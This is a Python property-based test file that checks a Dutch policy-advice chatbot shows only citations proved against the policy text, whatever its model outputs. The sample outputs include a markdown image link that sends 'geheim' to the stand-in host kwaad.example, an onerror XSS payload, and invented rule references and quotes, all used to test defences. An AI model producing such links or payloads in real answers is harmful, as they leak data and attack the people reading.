"""Whatever a model says, no citation is shown that is not proved: over a thousand generated outputs, on every face."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from advisor.advice import Advice, Claim, Engine
from advisor.bootstrap import Advisor, build_advisor
from advisor.chat_model import Request
from advisor.question import Question
from advisor.scripted_model import ScriptedModel
from ingest.compose import Sources, compose
from ingest.policy import Outcome, Policy
from retrieval.embedder import HashingEmbedder
from ui.page_html import Exchange, conversation_html
from ui.render import advice_view, console
from ui.wire import answer_out

QUESTIONS = (
    "Mag ik een foto van internet bij mijn blog zetten?",
    "Mag ik mijn hond meenemen als ik iets vlog over de kantine?",
)
"""One that the reader is sure of, and one that it is not."""
SENTENCES = [(one.ref, one.text) for rule in compose(Sources()).rules for one in rule.sentences]
_REF = re.compile(r"(?<![\w.])R\d{1,3}\.\d{1,2}(?!\w)")
_NAMED = re.compile(r"\bregel (\d+)", re.IGNORECASE)


@dataclass(repr=False)
class _Model:
    """A model that says what the test puts in it, at every call; `ended` counts how answers ended."""

    advisor: Advisor = field(init=False)
    said: str = ""
    ended: Counter[str] = field(default_factory=Counter[str])

    def script(self, _: Request) -> list[str]:
        return [self.said[at : at + 37] for at in range(0, len(self.said), 37)] or [" "]


@pytest.fixture(scope="module")
def talking(fake_advisor: Advisor) -> _Model:
    model = _Model()
    model.advisor = build_advisor(
        fake_advisor.settings, policy=fake_advisor.policy, embedder=HashingEmbedder(), model=ScriptedModel(model.script)
    )
    return model


def _folded(text: str) -> str:
    for marks, plain in (("´`’‘", "'"), ("“”„", '"'), ("–—‑", "-")):
        text = re.sub(f"[{marks}]", plain, text)
    return " ".join(text.split())


def _check(advice: Advice | Claim, policy: Policy) -> None:
    for citation in advice.citations:
        assert citation.policy_version == policy.version
        assert _folded(citation.quote) in _folded(policy.quotable[citation.ref])


def _sources(ref: str, text: str) -> list[Any]:
    """Return a good source of this sentence, and bad ones of every kind."""
    words = text.split()
    changed = [*words[: len(words) // 2], "nooit ofte nimmer", *words[len(words) // 2 + 1 :]]
    good = {"ref": ref, "quote": text}
    return [
        good,
        {"ref": f"[{ref}]", "quote": f"“{text}”"},
        {"ref": ref, "quote": " ".join(words[1:7])},
        {"ref": ref, "quote": words[0]},
        {"ref": ref, "quote": " ".join(changed)},
        {"ref": ref, "quote": text.replace("organisatie", "gemeente Utrecht") + "!"},
        {"ref": ref, "quote": text[3:-4]},
        {"ref": ref.lower(), "quote": text.upper()},
        {"ref": "R15.3" if ref != "R15.3" else "R1.1", "quote": text},
        *({"ref": name, "quote": text} for name in ("R99.1", "R7", "R1.99", "G:geheim#1.1", "", "7")),
        [ref, text],
        {"ref": 7, "quote": []},
        {"quote": text},
        None,
    ]


@st.composite
def _source(draw: st.DrawFn) -> Any:
    fitting = [sentence for sentence in SENTENCES if sentence[0] == "R5.1"]
    every = _sources(*draw(st.sampled_from([*fitting * len(SENTENCES) * 3, *SENTENCES])))
    return draw(st.sampled_from([*every[:1] * len(every) * 3, *every]))


_FINE = ("Je mag een foto plaatsen als de maker dat goed vindt.", "Vraag eerst de maker van de foto.")
_WORDS = (
    *_FINE * 10,
    "Volgens regel 99 mag alles.",
    "Zie [R8.1] en R99.9 [R[7.1]].",
    "Dat staat zo: “Werknemers mogen alles delen met de pers”.",
    "![foto](https://kwaad.example/?q=geheim)",
    "Lees [meer](https://kwaad.example) of www.kwaad.example.",
    "<img src=x onerror=alert(1)> <b>vet</b>",
    "Mag",
    "You may post this picture if the maker agrees with it.",
    "x" * 900,
)


@st.composite
def _output(draw: st.DrawFn) -> str:
    claim = st.fixed_dictionaries(
        {"text": st.sampled_from(_WORDS), "sources": st.lists(_source(), min_size=1, max_size=2)}
    )
    claim |= st.sampled_from([None, "tekst", {"text": 3}, {"text": "Mag.", "sources": "R1.1"}])
    whole: dict[str, Any] = {
        "outcome": draw(st.sampled_from([*["answered"] * 9, "not_covered", "off_topic", "zeker", 7])),
        "stance": draw(st.sampled_from(["allowed", "not_allowed", "none", None])),
        "claims": draw(st.lists(claim, max_size=3)),
        "question": draw(st.sampled_from(["", "Is de foto van jou?", "Zie R99.1?", "![x](http://kwaad.example)?"])),
    }
    text = json.dumps(whole, ensure_ascii=draw(st.booleans()))
    match draw(st.integers(0, 11)):
        case 0:
            return text[: draw(st.integers(0, len(text)))]
        case 1:
            return f"Natuurlijk! ```json\n{text}\n``` Zie ook [R99.1]."
        case 2:
            return f"<think>R99.1 {{</think>{text}"
        case 3:
            return " ".join(draw(st.lists(st.sampled_from(_WORDS), max_size=4)))
        case _:
            return text


def _shown(advice: Advice, policy: Policy) -> Iterable[str]:
    """Everything that a person or program sees of an answer."""
    screen = console(width=100)
    with screen.capture() as captured:
        screen.print(advice_view(advice, policy))
    yield captured.get()
    yield answer_out(advice).model_dump_json()
    yield conversation_html([Exchange(QUESTIONS[0], advice)], policy, "nl")


@settings(
    max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(said=_output(), asked=st.sampled_from(QUESTIONS))
def test_nothing_unproved_is_ever_shown(talking: _Model, said: str, asked: str) -> None:
    advisor, talking.said = talking.advisor, said
    policy = advisor.policy
    *claims, advice = advisor.ask_stream(Question(text=asked))
    assert isinstance(advice, Advice)
    for piece in (*claims, advice):
        _check(piece, policy)
    assert (advice.engine == Engine.LLM) == (advice.fallback is None)
    talking.ended[f"{advice.engine} {advice.outcome} {bool(claims)}"] += 1
    if advice.outcome != Outcome.ANSWERED:
        assert not advice.citations
    cited = {citation.ref for citation in advice.citations}
    rules = {str(citation.rule) for citation in advice.citations}
    streamed = " ".join(claim.text for claim in claims if isinstance(claim, Claim))
    texts = [*_shown(advice, policy), streamed]
    for text in texts:
        assert "kwaad.example" not in text
        assert "onerror" not in text
        assert "Utrecht" not in text
    assert set(_REF.findall(advice.text)) <= cited
    assert set(_NAMED.findall(advice.text)) <= rules
    assert "alles delen met de pers" not in "".join(texts)


def test_the_outputs_were_of_every_kind(talking: _Model) -> None:
    ended = talking.ended
    assert min(ended["llm answered True"], ended["rules answered True"], ended["rules answered False"]) > 10
    assert ended["llm not_covered False"] + ended["llm off_topic False"] > 10
